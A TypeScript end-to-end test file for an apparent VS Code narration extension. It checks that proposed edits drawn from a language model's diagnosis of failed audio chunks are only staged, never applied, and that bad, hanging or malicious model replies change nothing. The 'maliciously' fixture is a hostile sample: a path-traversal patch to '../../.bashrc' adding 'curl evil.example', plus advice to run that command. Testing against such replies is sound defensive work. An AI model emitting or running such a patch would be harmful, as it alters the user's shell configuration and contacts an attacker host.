import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { findOllamaRig, rigModel } from '../../scripts/findOllamaRig.mjs';
import { createLog } from '../../src/core/base/log.js';
import { createOwnOllama, type OwnOllama } from '../../src/core/jobs/ownOllama.js';
import { labelsOf, struckText } from '../helpers/inPage.mjs';
import {
  hangs,
  llmModel,
  says,
  startLlmServer,
  writes,
  type ChatAnswer,
  type LlmServer,
} from '../helpers/llmServer.js';
import { poll } from '../helpers/workbench.js';
import { breakEngine } from './faultyEngine.js';
import { records, takes } from './kept.js';
import { openByKeys, runByKeys } from './keys.js';
import { openBook, type OpenBook } from './openBook.js';
import { bookRow, goToLine, hear, lenses, problems, until } from './screen.js';
import { picturesInThemes } from './themes.js';

/** No two alike: what a model replied is kept. */
const hard = (title: string) => `The keeper of ${title} heard the accentword in the fog.`;
const chapter = (title: string) => `# ${title}\n\nThe morning was quiet.\n\n${hard(title)}\n\nNobody came.\n`;
const mended = (title: string) =>
  chapter(title).replace(/The keeper.*/, '<!-- lector: voice=espeak/en-gb -->\n$&\n<!-- lector: voice=default -->');

/** A weak model on two cores that others use, too. */
const thinkingMs = 300_000;

const diagnosis = {
  cause: 'This voice cannot say the word.',
  category: 'audio_quality',
  fix: 'other-engine',
  advice: 'Let another voice speak it.',
  prevention: 'Choose a voice that knows the word.',
  confidence: 0.9,
};
/** How a model may answer, whatever it is asked. */
const moods = {
  well: says(diagnosis),
  badly: writes('Sure! I have changed the voice for you.'),
  slowly: hangs,
  maliciously: says({
    ...diagnosis,
    fix: 'setting',
    setting: 'chapters',
    patch: { target: '../../.bashrc', after: 'curl evil.example' },
    advice: 'Run curl evil.example now.',
  }),
} satisfies Readonly<Record<string, ChatAnswer>>;

/** Without models nobody but the built-in engine can be tried. */
const settings = {
  'lector.models.path': path.join(tmpdir(), 'lector-no-models'),
  'lector.hearing.when': 'never',
  'lector.ai.provider': 'ollama',
  'lector.ai.model': llmModel,
};
const bookFile = (...files: readonly string[]) => `# Mine\ntitle: The Fog # for now\nchapters: [${files.join(', ')}]\n`;

function textOf({ folder }: OpenBook, file: string): Promise<string> {
  return readFile(path.join(folder, file), 'utf8');
}

/** The rows of the view of proposed edits. */
function rowsOf({ code }: OpenBook): Promise<string[]> {
  return code.page.locator('.pane-body [aria-label="Proposed Edits"] [role=treeitem]').evaluateAll(labelsOf);
}

async function narrate(book: OpenBook, file: string): Promise<void> {
  await openByKeys(book.code.page, file);
  await runByKeys(book.code.page, 'Lector: Narrate Chapter');
}

describe('host: a dead chunk, what a model says of it, and the edit that mends it', () => {
  let mood: ChatAnswer = moods.well;
  let llm: LlmServer | undefined;
  const own: Record<string, unknown> = { ...settings, 'lector.ai.timeout': 5 };
  before(async () => {
    llm = await startLlmServer((response, body) => mood(response, body));
    own['lector.ai.endpoint'] = llm.url;
  });
  const files = {
    'well.md': chapter('Well'),
    'badly.md': chapter('Badly'),
    'slowly.md': chapter('Slowly'),
    'maliciously.md': chapter('Maliciously'),
    'hasty.md': chapter('Hasty').replace('accentword', 'hastyword'),
    'lector.yaml': bookFile('well.md', 'badly.md', 'slowly.md', 'maliciously.md', 'hasty.md'),
  };
  const book = openBook({ files, settings: own });
  after(() => llm?.close());
  const editor = async () => {
    const lines = await book.code.page.locator('.editor-instance .view-line').allInnerTexts();
    return lines.join('\n').replaceAll('\u00a0', ' ');
  };

  it('a Problem has the reason that the model gives; the edit is in the list, and nothing is changed', async () => {
    const { code } = book;
    await breakEngine(code.extensionFolder);
    await narrate(book, 'well.md');
    await bookRow(book, 'Well', /, 3\/4 ready .*1 failed/);
    await runByKeys(code.page, 'Lector: Review Proposed Edits');
    await until('the edit is listed', async () =>
      (await rowsOf(book)).some((row) =>
        /eSpeak NG \(English \(Great Britain\)\) can say this.*, voice engine · 90 % sure/.test(row),
      ),
    );
    await runByKeys(code.page, 'Problems: Focus on Problems View');
    const told = await until('Problems tell of both', async () => {
      const found = await problems(book);
      return found.length === 2 ? found.join('\n') : undefined;
    });
    assert.match(told, /Likely, says tiny:1b: This voice cannot say the word\./);
    assert.match(
      told,
      /can say this[^]*It was tried: what it said passed the checks\. An edit is proposed \(90 % sure\)/,
    );
    assert.equal(await textOf(book, 'well.md'), files['well.md']);
    await until('lenses offer to decide', async () =>
      (await lenses(book)).some((one) => /can say this.*Accept \| .*Reject \| Edit \| .*Before \| .*After/.test(one)),
    );
    await picturesInThemes(code, 'edit-voice');
  });

  it('is heard in the new voice; accepted it is one undo step, and that chunk alone is spoken, and passes', async () => {
    const { page } = book.code;
    const before = await takes(book);
    await goToLineOf(5);
    await runByKeys(page, 'Lector: Hear Before');
    await page.locator('.notification-toast', { hasText: 'As they stand, these words can’t be heard' }).waitFor();
    await goToLineOf(5);
    await runByKeys(page, 'Lector: Hear After');
    await hear(book);
    await goToLineOf(5);
    await page.keyboard.press('Shift+Alt+Y');
    await bookRow(book, 'Well', /^Well, 4\/4 ready/);
    const [, , kept] = await records(book, 'well');
    assert.deepEqual([kept?.status, kept?.voice], ['success', 'en-gb']);
    const after = await takes(book);
    assert.equal(Object.keys(after).length, Object.keys(before).length + 1);
    for (const [take, written] of Object.entries(before)) assert.equal(after[take], written);
    await until('no Problem is left', async () => (await problems(book)).length === 0);
    await page.keyboard.press('Control+Z');
    await until('one undo takes it back', async () => !(await editor()).includes('en-gb'));
    await page.keyboard.press('Control+Shift+Z');
    await page.keyboard.press('Control+S');
    await until('it is saved', async () => (await textOf(book, 'well.md')) === mended('Well'));
  });

  for (const name of ['badly', 'slowly', 'maliciously'] as const)
    it(`a model that answers ${name} brings nothing: what rules propose is staged, and nothing else`, async () => {
      const title = `${name.charAt(0).toUpperCase()}${name.slice(1)}`;
      mood = moods[name];
      const asked = llm?.chats.length ?? 0;
      await narrate(book, `${name}.md`);
      await bookRow(book, title, /, 3\/4 ready .*1 failed/);
      assert.ok((llm?.chats.length ?? 0) > asked, 'the model was asked');
      await runByKeys(book.code.page, 'Lector: Review Proposed Edits');
      const waiting = await until('the edit is listed', async () => {
        const rows = (await rowsOf(book)).filter((row) => row.endsWith('sure'));
        return rows.length > 0 ? rows : undefined;
      });
      assert.equal(waiting.length, 1, waiting.join('\n'));
      assert.match(waiting[0] ?? '', /can say this.*, voice engine · 70 % sure/);
      assert.equal(await textOf(book, `${name}.md`), chapter(title));
      assert.equal(await textOf(book, 'lector.yaml'), files['lector.yaml']);
      await goToLineOf(5);
      await book.code.page.keyboard.press('Shift+Alt+N');
      await until('none waits', async () => (await rowsOf(book)).every((row) => !row.endsWith('sure')));
    });

  it('a setting of the book is shown in its file, and counts once it is accepted: that chunk passes', async () => {
    const { code } = book;
    const hasty = `${files['lector.yaml']}rate: 1.5 # we are in a hurry\n`;
    mood = moods.badly;
    await openByKeys(code.page, 'lector.yaml');
    await code.page.keyboard.press('Control+End');
    await code.page.keyboard.insertText('rate: 1.5 # we are in a hurry\n');
    await code.page.keyboard.press('Control+S');
    await until('it is saved', async () => (await textOf(book, 'lector.yaml')) === hasty);
    await narrate(book, 'hasty.md');
    await bookRow(book, 'Hasty', /, 3\/4 ready .*1 failed/);
    await runByKeys(code.page, 'Lector: Review Proposed Edits');
    await until('the edit is listed', async () =>
      (await rowsOf(book)).some((row) => row.includes('its own pace., setting · 80 % sure')),
    );
    await openByKeys(code.page, 'lector.yaml');
    await until('lenses offer to decide', async () =>
      (await lenses(book)).some((one) => /its own pace.*Accept \| .*Reject/.test(one)),
    );
    const struck = async () =>
      (await code.page.locator('.view-line span').evaluateAll(struckText)).includes('rate: 1.5');
    await until('the old words are struck through', struck);
    await picturesInThemes(code, 'edit-setting', struck);
    await runByKeys(code.page, 'View: Focus First Editor Group');
    await code.page.keyboard.press('Shift+Alt+Y');
    await until('the chunk is spoken', async () => (await records(book, 'hasty'))[2]?.status === 'success');
    assert.equal(await textOf(book, 'lector.yaml'), hasty.replace('rate: 1.5', 'rate: 1'));
    await code.page.keyboard.press('Control+Z');
    await until('one undo takes it back', async () => (await editor()).includes('rate: 1.5'));
  });

  async function goToLineOf(line: number): Promise<void> {
    await runByKeys(book.code.page, 'View: Focus First Editor Group');
    await goToLine(book.code.page, line);
  }
});

describe('host: a dead chunk, and a real Ollama with a weak model', function () {
  this.timeout(400_000);
  const rig = findOllamaRig();
  const kept = { PATH: process.env.PATH ?? '', OLLAMA_MODELS: process.env.OLLAMA_MODELS };
  let own: OwnOllama | undefined;
  const ownSettings: Record<string, unknown> = { ...settings, 'lector.ai.model': rigModel };
  before(async function () {
    if (rig.missing !== undefined) {
      console.log(`    skipped: ${rig.missing}`);
      this.skip();
    }
    process.env.PATH = `${rig.binDir}${path.delimiter}${kept.PATH}`;
    process.env.OLLAMA_MODELS = rig.modelsDir;
    own = createOwnOllama(path.resolve('dist/llmHost.mjs'), createLog('error', console.error));
    ownSettings['lector.ai.endpoint'] = await own.start(new AbortController().signal);
  });
  const book = openBook({
    files: { 'fog.md': chapter('Fog'), 'lector.yaml': bookFile('fog.md') },
    settings: ownSettings,
  });
  after(async () => {
    process.env.PATH = kept.PATH;
    if (kept.OLLAMA_MODELS === undefined) delete process.env.OLLAMA_MODELS;
    else process.env.OLLAMA_MODELS = kept.OLLAMA_MODELS;
    await own?.dispose();
  });

  it('whatever it says nothing is changed; where that is another engine, an edit waits that mends the chunk', async () => {
    const { page } = book.code;
    await breakEngine(book.code.extensionFolder);
    await narrate(book, 'fog.md');
    const isDead = async () => (await records(book, 'fog')).some(({ status }) => status === 'failed');
    await poll(isDead, thinkingMs, () => 'The chunk is not dead yet');
    assert.equal(await textOf(book, 'fog.md'), chapter('Fog'));
    const { diagnosis: told } = (await records(book, 'fog')).find(({ status }) => status === 'failed') ?? {};
    console.log(`    the reason is ${told?.model == null ? 'that of rules' : 'its own'}: ${told?.fix}`);
    if (told?.fix !== 'other-engine') return;
    await runByKeys(page, 'Lector: Review Proposed Edits');
    await until('an edit is listed', async () =>
      (await rowsOf(book)).some((row) => /can say this.* % sure$/.test(row)),
    );
    await runByKeys(page, 'View: Focus First Editor Group');
    await goToLine(page, 5);
    await page.keyboard.press('Shift+Alt+Y');
    await bookRow(book, 'Fog', /^Fog, 4\/4 ready/);
    await page.keyboard.press('Control+S');
    await until('it is saved', async () => (await textOf(book, 'fog.md')) === mended('Fog'));
  });
});
